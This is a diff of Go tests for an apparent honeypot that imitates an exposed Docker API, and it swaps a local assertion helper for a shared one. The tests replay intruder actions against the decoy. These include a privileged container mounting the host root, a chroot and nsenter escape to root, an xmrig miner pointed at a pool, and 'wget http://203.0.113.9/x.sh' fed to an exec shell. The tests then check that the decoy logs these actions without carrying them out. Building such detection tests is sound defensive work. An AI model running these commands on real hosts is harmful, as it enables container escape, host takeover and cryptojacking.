@@ -35,15 +35,6 @@ func docker(t *testing.T, d *decoytest.Decky, stdin string, args ...string) (str
 	return servicetest.Run(t, stdin, "docker", append([]string{"-H", "tcp://" + d.Address(2375)}, args...)...)
 }
 
-func contains(t *testing.T, out string, wants ...string) {
-	t.Helper()
-	for _, want := range wants {
-		if !strings.Contains(out, want) {
-			t.Errorf("%q is not in\n%s", want, out)
-		}
-	}
-}
-
 func TestRealClientLooksAround(t *testing.T) {
 	for _, number := range []string{"20.10.24+dfsg1", "24.0.7", "27.3.1"} {
 		t.Run(number, func(t *testing.T) {
@@ -54,19 +45,19 @@ func TestRealClientLooksAround(t *testing.T) {
 			if err != nil {
 				t.Error(err)
 			}
-			contains(t, out, number, versionOf(d.Host).commit)
+			servicetest.Contains(t, out, number, versionOf(d.Host).commit)
 			out, _ = docker(t, d, "", "info")
-			contains(t, out, "Server Version: "+number, "Name: "+d.Host.Hostname, "API is accessible on http://0.0.0.0:2375 without encryption")
+			servicetest.Contains(t, out, "Server Version: "+number, "Name: "+d.Host.Hostname, "API is accessible on http://0.0.0.0:2375 without encryption")
 			out, _ = docker(t, d, "", "ps")
-			contains(t, out, app.Name+"-app-1", "Up ")
+			servicetest.Contains(t, out, app.Name+"-app-1", "Up ")
 			out, _ = docker(t, d, "", "images")
-			contains(t, out, "nginx", "1.25-alpine", "registry."+app.Domain+"/"+app.Name)
+			servicetest.Contains(t, out, "nginx", "1.25-alpine", "registry."+app.Domain+"/"+app.Name)
 			out, _ = docker(t, d, "", "inspect", app.Name+"-app-1")
-			contains(t, out, app.Secret)
+			servicetest.Contains(t, out, app.Secret)
 			out, _ = docker(t, d, "", "network", "ls")
-			contains(t, out, "bridge", "host", "none")
+			servicetest.Contains(t, out, "bridge", "host", "none")
 			out, _ = docker(t, d, "", "node", "ls")
-			contains(t, out, "This node is not a swarm manager")
+			servicetest.Contains(t, out, "This node is not a swarm manager")
 			out, err = docker(t, d, "", "inspect", "nope")
 			if err == nil {
 				t.Errorf("what is not there is found:\n%s", out)
@@ -85,7 +76,7 @@ func TestWhatAnIntruderRunsIsRecordedAndNotRun(t *testing.T) {
 			if err == nil {
 				t.Error("ls of nothing succeeds")
 			}
-			contains(t, out, "Unable to find image 'evil/alpine:latest' locally", "Status: Downloaded newer image for evil/alpine:latest", "uid=0(root)", d.Host.Hostname, "No such file or directory")
+			servicetest.Contains(t, out, "Unable to find image 'evil/alpine:latest' locally", "Status: Downloaded newer image for evil/alpine:latest", "uid=0(root)", d.Host.Hostname, "No such file or directory")
 			created := d.Wait("container_create", decoytest.Has("image", "evil/alpine"), decoytest.Has("privileged", "true"), decoytest.Has("binds", "/:/mnt"), decoytest.Has("env", "POOL=203.0.113.9:3333"))
 			if command, _ := created.Get(event.Command); !strings.HasPrefix(command, "chroot /mnt sh -c ") {
 				t.Errorf("the command is recorded as %q", command)
@@ -105,21 +96,21 @@ func TestWhatAnIntruderRunsIsRecordedAndNotRun(t *testing.T) {
 				t.Errorf("%v\n%s", err, out)
 			}
 			out, _ = docker(t, d, "", "ps")
-			contains(t, out, "xmr", `"/xmrig -o pool:3333"`, "evil/alpine")
+			servicetest.Contains(t, out, "xmr", `"/xmrig -o pool:3333"`, "evil/alpine")
 			if out, err = docker(t, d, "", "run", "-d", "--name", "xmr", "evil/alpine", "x"); err == nil || !strings.Contains(out, `The container name "/xmr" is already in use`) {
 				t.Errorf("%v\n%s", err, out)
 			}
 			out, _ = docker(t, d, "", "rm", "-f", "xmr")
-			contains(t, out, "xmr")
+			servicetest.Contains(t, out, "xmr")
 			out, _ = docker(t, d, "", "run", "--name", "once", "evil/alpine", "echo", "hello")
-			contains(t, out, "hello")
+			servicetest.Contains(t, out, "hello")
 			docker(t, d, "", "run", "-d", "--name", "later", "evil/alpine", "uname")
 			out, _ = docker(t, d, "", "logs", "later")
-			contains(t, out, "Linux")
+			servicetest.Contains(t, out, "Linux")
 			out, _ = docker(t, d, "", "start", "-a", "once")
-			contains(t, out, "hello")
+			servicetest.Contains(t, out, "hello")
 			out, _ = docker(t, d, "", "ps", "-a")
-			contains(t, out, "Exited (0)")
+			servicetest.Contains(t, out, "Exited (0)")
 		})
 	}
 }
@@ -129,9 +120,9 @@ func TestExec(t *testing.T) {
 	d := decoytest.StartAs(t, such(t, "24.0.7"), "docker_api")
 	name := bait.AppOf(d.Host).Name + "-app-1"
 	out, _ := docker(t, d, "", "exec", name, "nsenter", "-t", "1", "-m", "--", "sh", "-c", "whoami; cat /nope")
-	contains(t, out, "root", "/nope: No such file or directory")
+	servicetest.Contains(t, out, "root", "/nope: No such file or directory")
 	out, _ = docker(t, d, "hostname\nwget http://203.0.113.9/x.sh\n", "exec", "-i", name, "sh")
-	contains(t, out, d.Host.Hostname)
+	servicetest.Contains(t, out, d.Host.Hostname)
 	d.Wait("container_exec", decoytest.Has("container", name), decoytest.Has(event.Command, "sh"))
 	d.Wait(event.Download, decoytest.Has("url", "http://203.0.113.9/x.sh"))
 	out, err := docker(t, d, "", "exec", name, "sh", "-c", "exit 7")
@@ -142,7 +133,7 @@ func TestExec(t *testing.T) {
 	conn := d.Dial(2375)
 	fmt.Fprintf(conn, "POST /exec/%s/start HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\nContent-Type: application/json\r\nContent-Length: 12\r\n\r\n{\"Tty\":true}whoami\r\nexit\r\n", id)
 	all, _ := io.ReadAll(conn)
-	contains(t, string(all), "HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\n", "root")
+	servicetest.Contains(t, string(all), "HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\n", "root")
 }
 
 // post returns the Id of the answer.
@@ -217,7 +208,7 @@ func TestTLS(t *testing.T) {
 	if err != nil {
 		t.Errorf("%v\n%s", err, out)
 	}
-	contains(t, out, bait.AppOf(d.Host).Name+"-app-1")
+	servicetest.Contains(t, out, bait.AppOf(d.Host).Name+"-app-1")
 	d.Wait("tls", decoytest.Has(event.DstPort, "2376"))
 	conn := d.Dial(2376)
 	io.WriteString(conn, "GET / HTTP/1.1\r\n\r\n")
@@ -229,7 +220,7 @@ func TestTLS(t *testing.T) {
 func TestScannerNamesTheProduct(t *testing.T) {
 	t.Parallel()
 	d := decoytest.Start(t, "docker_api")
-	contains(t, servicetest.Scan(t, d, 2375), "Docker")
+	servicetest.Contains(t, servicetest.Scan(t, d, 2375), "Docker")
 }
 
 func TestWhatIntrudersLeaveIsBounded(t *testing.T) {
